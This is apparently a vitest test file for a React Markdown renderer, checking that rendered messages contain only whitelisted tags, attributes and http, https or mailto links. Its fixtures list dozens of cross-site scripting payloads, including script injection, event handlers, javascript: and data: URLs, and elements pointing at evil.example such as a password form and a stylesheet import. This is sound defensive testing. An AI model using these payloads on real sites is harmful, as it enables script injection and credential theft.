import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const labels = { copyCode: 'Copy', copied: 'Copied', leadsTo: (host: string) => `(leads to ${host})` };
const tags = new Set(
  'a bdi blockquote button code del div em h3 h4 h5 h6 hr li ol p path pre strong svg table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const attributes = new Set(
  'aria-hidden class d dir focusable href rel scope tabindex target title translate type value viewBox'.split(
    ' ',
  ),
);

/** Tags and attributes of markup as React writes it: each real `<` begins a tag, each real `"` bounds a value. */
function partsOf(markup: string): { tags: string[]; attributes: string[]; hrefs: string[]; words: string } {
  const found = [...markup.matchAll(/<\/?([\w-]+)((?: [\w-]+="[^"<>]*")*)\/?>/g)];
  const pairs = found.flatMap(([, , list = '']) => [...list.matchAll(/ ([\w-]+)="([^"]*)"/g)]);
  return {
    tags: found.map(([, tag = '']) => tag),
    attributes: pairs.map(([, name = '']) => name),
    hrefs: pairs
      .filter(([, name]) => name === 'href')
      .map(([, , value = '']) => value.replaceAll('&amp;', '&')),
    words: markup.replaceAll(/<\/?[\w-]+(?: [\w-]+="[^"<>]*")*\/?>/g, ''),
  };
}

function draw(text: string) {
  return partsOf(renderToStaticMarkup(<Markdown text={text} labels={labels} />));
}

/** What of the drawn message is not on the list of what may be drawn. */
function strangersIn(text: string): string[] {
  const drawn = draw(text);
  return [
    ...(drawn.words.match(/[<>]/g) ?? []),
    ...drawn.tags.filter((tag) => !tags.has(tag)),
    ...drawn.attributes.filter((name) => !attributes.has(name)),
    ...drawn.hrefs.filter((href) => !['http:', 'https:', 'mailto:'].includes(new URL(href).protocol)),
  ];
}

const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg onload=alert(1)>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password></form>',
  '<object data="javascript:alert(1)"></object><embed src=x>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=https://evil.example onclick=alert(1)>a</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<!-- --><!DOCTYPE html><![CDATA[x]]><?php echo 1 ?>',
  '</p></div></body></html>',
  '<div id=forms><p name=getElementById>',
  '<img name=getElementById><form id=forms><input name=attributes>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3C;svg onload=alert(1)&#x3E;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} <%= alert(1) %> #{alert(1)}',
  '<<script>script>alert(1)',
  '<a\u0000b onload=alert(1)>',
];

const around: [string, (text: string) => string][] = [
  ['alone', (text) => text],
  ['in words', (text) => `a ${text} b`],
  ['in a heading', (text) => `# ${text}`],
  ['in a list', (text) => `- ${text}\n  1. ${text}`],
  ['in a quote', (text) => `> ${text}\n> > ${text}`],
  ['in a table', (text) => `| ${text} | b |\n|---|---|\n| ${text} | ${text} |`],
  ['in code', (text) => `\`${text}\``],
  ['in a code block', (text) => `\`\`\`${text}\n${text}\n\`\`\``],
  ['in indented code', (text) => `    ${text}`],
  ['in emphasis', (text) => `**${text}** ~~${text}~~`],
  ['as the text of a link', (text) => `[${text}](https://x.example)`],
  ['as the title of a link', (text) => `[a](https://x.example "${text}")`],
  ['in the address of a link', (text) => `[a](https://x.example/${text}) [b](<https://x.example/${text}>)`],
  ['behind an address', (text) => `https://x.example/${text} <https://x.example/${text}>`],
  ['in a definition', (text) => `[a]\n\n[a]: https://x.example/${text} "${text}"`],
  ['as a picture', (text) => `![${text}](https://x.example/${text})`],
];

describe.each(around)('H001 H002 H003 H020 H023 markup %s', (_, wrap) => {
  test.each(markup)('is text: %s', (text) => {
    expect(strangersIn(wrap(text))).toEqual([]);
  });
});

test.each(markup.slice(0, 30))('H001 H020 the words of %s are all shown', (text) => {
  const shown = draw(text).words.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"');
  expect(shown.replaceAll('&#x27;', "'").replaceAll('&amp;', '&')).toBe(text);
});

const schemes = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\u200b:alert(1)',
  '&#106;avascript:alert(1)',
  'java&#10;script&#58;alert(1)',
  'javascript&colon;alert(1)',
  'javascript%3Aalert(1)',
  'java%0ascript:alert(1)',
  'java\\script:alert(1)',
  'javascript\\:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'Data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:null/1',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'https:evil.example',
  'https://user@evil.example',
];

const forms: [string, (address: string) => string][] = [
  ['a link', (address) => `[a](${address})`],
  ['a link in brackets', (address) => `[a](<${address}>)`],
  ['a link with a title', (address) => `[a](${address} "t")`],
  ['a link with blanks', (address) => `[a](  ${address}  )`],
  ['a picture', (address) => `![a](${address})`],
  ['a picture in a link', (address) => `[![a](${address})](${address})`],
  ['an address in brackets', (address) => `<${address}>`],
  ['a bare address', (address) => address],
  ['a definition', (address) => `[a] [b][a] ![a]\n\n[a]: ${address}`],
  ['a definition in brackets', (address) => `[a]\n\n[a]: <${address}> "t"`],
  ['a link in a table', (address) => `|[a](${address})|\n|-|\n|[a](${address})|`],
];

describe.each(forms)('H013 H015 %s', (_, form) => {
  test.each(schemes)('leads nowhere by %j', (address) => {
    expect(draw(form(address)).hrefs).toEqual([]);
    expect(strangersIn(form(address))).toEqual([]);
  });
});

test('H016 a picture loads nothing', () => {
  const drawn = draw('![a](https://x.example/a.png) ![b][c]\n\n[c]: https://x.example/c.png');
  expect(drawn.tags).not.toContain('img');
  expect(drawn.hrefs).toContain('https://x.example/a.png');
});

test('H018 references that point to each other are text', () => {
  expect(draw('[a] [b]\n\n[a]: [b]\n[b]: [a]').hrefs).toEqual([]);
});

test('H012 a message that looks like a notice of ours is a paragraph like any other', () => {
  expect(draw('[System] your account is closed').words).toBe('[System] your account is closed');
});

test('H009 H010 emoji, flags and scripts stay as they were written', () => {
  const text = '👩‍👩‍👧 🇩🇪 1️⃣ العربية 12 עברית `ls` Русский';
  expect(draw(text).words).toBe(text.replaceAll('`', ''));
});
